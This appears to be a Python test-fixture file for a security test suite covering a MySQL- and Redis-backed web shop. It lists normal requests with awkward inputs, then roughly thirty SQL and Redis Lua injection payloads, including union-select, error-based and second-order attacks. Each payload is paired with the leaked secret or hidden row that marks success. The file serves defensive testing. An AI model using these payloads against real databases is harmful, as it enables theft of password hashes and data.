"""A web shop on MySQL and Redis."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.ninth import (
    BUG,
    COMPLAINT,
    NAMES,
    POSTER,
    RICH,
    SPREAD,
    alb,
    api,
    fanout,
    graphql,
    http,
    pool,
)

NEEDS = ("mariadb", "redis")
SECRET = "my-secret-5523"


def _product(number: str) -> dict[str, object]:
    return api("GET", "/p/" + number, ids={"id": number}, resource="/p/{id}")


def _browse(**query: str) -> dict[str, object]:
    return http("GET", "/browse", query=query)


def _search(q: str) -> dict[str, object]:
    return http("GET", "/search", query={"q": q})


def _term(term: str) -> dict[str, object]:
    return alb("GET", "/suggest", query={"term": term})


def _stock(sku: str, delta: object) -> dict[str, object]:
    return fanout({"sku": sku, "delta": delta, "at": "2025-11-03T09:12:44+00:00"})


def _facets(by: str) -> dict[str, object]:
    return http("GET", "/facets", query={"by": by})


def _signup(email: str, about: str) -> dict[str, object]:
    return pool(
        "PostConfirmation_ConfirmSignUp", "u1", {"sub": "8c1d", "email": email, "custom:about": about}
    )


def _review(key: str, author: str, text: str = "Nice") -> dict[str, object]:
    return api("POST", "/reviews", {"id": key, "author": author, "text": text})


def _coupon(code: str, category: str) -> tuple[str, dict[str, object]]:
    return ("save_coupon", http("PUT", "/coupons", {"code": code, "category": category}))


def _basket(session: str, *items: dict[str, object]) -> dict[str, object]:
    return http("POST", "/basket", {"session": session, "items": items})


REQUESTS = {
    "product": [_product("1"), _product("3"), _product("12345")],
    "browse": [
        _browse(category="tea"),
        _browse(category="cups", sort="price", page="1"),
        _browse(category="Women's shoes & bags"),
        _browse(category="CD/DVD (used) -- 2nd hand", page="3"),
        _browse(category="# new; select"),
    ],
    "search": [
        *(
            _search(text)
            for text in (
                "earl grey",
                "'No. 1'",
                '"Anna" cup',
                "50% off",
                "tea_bag",
                "a\\b",
                "or 1=1 --",
                NAMES[0],
                "日本 茶",
                "union select",
            )
        ),
    ],
    "autocomplete": [
        _term("Ear"),
        _term("Earl+Gr"),
        _term("S%C3%BC%C3%9F"),
        _term("Cup%20%22An"),
        _term("5%25"),
        _term("and+or+(not)"),
    ],
    "stock_update": [
        _stock("TEA-001", 5),
        _stock("CUP-001", -2),
        fanout({"sku": "X/9 (b)", "delta": 1}, {"sku": "TEA-002", "delta": 2.0}),
    ],
    "member": [
        {"email": "o'neil@example.org"},
        {"email": "li@example.org"},
        {"email": '"a b"@example.org; --'},
    ],
    "members_by_domain": [
        {"domain": "example.org"},
        {"domain": "sub-domain.example.co.uk"},
        {"domain": "münchen.example"},
    ],
    "catalogue": [
        graphql("Query", "catalogue", filter={"category": "tea"}),
        graphql("Query", "catalogue", filter={"sku": "it's", "category": "cups"}, contains="An"),
        graphql("Query", "catalogue", contains="50% o_f"),
        graphql("Query", "catalogue", contains="' or 1=1 -- "),
    ],
    "facets": [_facets("category"), _facets("stock"), _facets("sku")],
    "signup": [
        _signup("d'angelo@example.org", COMPLAINT),
        _signup("zoe+tea@example.de", f"I'm {NAMES[8]}; I like '50%' & select teas -- {POSTER}"),
        _signup("ng@example.com", SPREAD),
    ],
    "review": [
        _review("r-1", "li@example.org", BUG),
        _review("r-2", "o'neil@example.org", RICH),
        _review("r-3", NAMES[1], "'; --"),
        _review("r-4", "jürgen@example.de", COMPLAINT),
    ],
    "points_of_reviewers": [{"review": "r-1"}, {"review": "r-2"}, {"review": "r-4"}, {"review": "r-99"}],
    "bulk": [
        {"prices": {"TEA-001": 8}},
        {"prices": {"TEA-001": "7.90", "CUP-001": 11.5}},
        {"prices": {"no such (sku)": 0}},
    ],
    "basket": [
        _basket("4f1c-2b", {"sku": "TEA-001", "n": 2}),
        _basket("anna@example.org", {"sku": "CUP-001", "n": 1, "engraving": 'It\'s "ours"; 愛'}),
        _basket("s:1:*", {"sku": "x y\r\nz", "n": 1}),
    ],
    "rate": [{"client": "203.0.113.9"}, {"client": "2001:db8::1"}, {"client": "key_9f3 (mobile app)"}],
    "save_coupon": [
        _coupon("SPRING_24", "tea")[1],
        _coupon("o'neil-5%", "cups & more (new)")[1],
        _coupon("X", "no such; -- x")[1],
    ],
    "redeem": [
        {"code": "SPRING_24", "skus": ["TEA-001", "CUP-001"]},
        {"code": "o'neil-5%", "skus": ["CUP-001"]},
        {"code": "none", "skus": []},
    ],
}
ATTACKS = [
    Attack(
        "SQL, second order",
        "redeem",
        {"code": "EVIL-1", "skus": ["TEA-001"]},
        SECRET,
        before=[_coupon("EVIL-1", "x' union select hash from members -- ")],
    ),
    Attack(
        "SQL, second order",
        "redeem",
        {"code": "EVIL-2", "skus": ["TEA-001"]},
        "HID-001",
        before=[_coupon("EVIL-2", "tea' or stock < 2 or '1' = '")],
    ),
    Attack("SQL, MySQL", "product", _product("0 union select 1, hash, 3 from members"), SECRET),
    Attack(
        "SQL, MySQL",
        "product",
        _product("0 /*!50000UnIoN*/ /*!50000SeLeCt*/ id,hash,points from(members)#"),
        SECRET,
    ),
    Attack(
        "SQL, MySQL",
        "product",
        _product("1 && extractvalue(1,concat(0x7e,(select hash from members limit 1)))"),
        SECRET,
    ),
    Attack("SQL, MySQL", "product", _product("4 or(category)=0x68696464656e"), "Unreleased"),
    Attack(
        "SQL, MySQL", "browse", _browse(category='tea" union select email, hash from members -- '), SECRET
    ),
    Attack("SQL, MySQL", "browse", _browse(category='x"||category="hidden'), "Unreleased"),
    Attack("SQL, MySQL", "browse", _browse(category='n" or "1"="1', sort="id` desc -- "), "Unreleased"),
    Attack(
        "SQL, MySQL",
        "browse",
        _browse(category="tea", sort="id`*(select if(hash like 'my-sec%',-1,1) from members where id=1) -- "),
        '[{\\"sku\\": \\"TEA-002\\"',
    ),
    Attack("SQL, MySQL", "autocomplete", _term("x%27+union+select+hash+from+members+--+"), SECRET),
    Attack("SQL, MySQL", "autocomplete", _term("%27%20OR%20category%3D%27hidden%27%23"), "Unreleased"),
    Attack(
        "SQL, MySQL",
        "autocomplete",
        _term("x'/**/union/**/select/**/group_concat(hash)/**/from/**/members;%00"),
        SECRET,
    ),
    Attack("SQL, queue", "stock_update", _stock("CUP-001' or sku like 'HID%", 500), "HID-001"),
    Attack(
        "SQL, queue",
        "stock_update",
        _stock("TEA-001", "1000, sku = (select hash from members limit 1)"),
        SECRET,
    ),
    Attack("SQL, queue", "stock_update", _stock("x", "0, stock = 4711 where sku='HID-001' -- "), "4711"),
    Attack(
        "SQL, SQLAlchemy",
        "members_by_domain",
        {"domain": "x' union select hash, id from members -- "},
        SECRET,
    ),
    Attack(
        "SQL, SQLAlchemy",
        "members_by_domain",
        {"domain": "example.org' or points = 0 and '%' like '"},
        "admin@",
    ),
    Attack("SQL, SQLAlchemy", "facets", _facets("(select hash from members where id = 1)"), SECRET),
    Attack("SQL, SQLAlchemy", "facets", _facets("concat(category, 0x3a, char(52,55,49,49))"), "hidden:4711"),
    Attack(
        "SQL, trigger", "signup", _signup("\\',0,0,(select concat(0x7077,database())))#", "tea"), "pwshop"
    ),
    Attack(
        "SQL, trigger", "signup", _signup("zoe\\', 0x78, 1, version()) -- @example.org", "tea"), "MariaDB"
    ),
    Attack(
        "SQL, second order",
        "points_of_reviewers",
        {"review": "z-1"},
        SECRET,
        before=[("review", _review("z-1", '" union select hash, id from members -- '))],
    ),
    Attack(
        "SQL, second order",
        "points_of_reviewers",
        {"review": "z-2"},
        "admin@",
        before=[("review", _review("z-2", 'x" or points < 1 or "'))],
    ),
    Attack(
        "SQL, keys",
        "bulk",
        {
            "prices": {
                "X'; update products set title=(select hash from members limit 1) where sku='TEA-001": 1
            }
        },
        SECRET,
    ),
    Attack(
        "SQL, values",
        "bulk",
        {"prices": {"CUP-001": "1, title = (select group_concat(hash) from members)"}},
        SECRET,
    ),
    Attack(
        "Redis, Lua",
        "rate",
        {
            "client": "x'); local a = redis.call('GET', 'ninth:secret'); if true then return a end; redis.call('DEL', 'y"
        },
        "redis-secret-3390",
    ),
    Attack(
        "Redis, Lua",
        "rate",
        {"client": "x') do return redis.call('GET', 'ninth:secret') end --"},
        "redis-secret-3390",
    ),
]
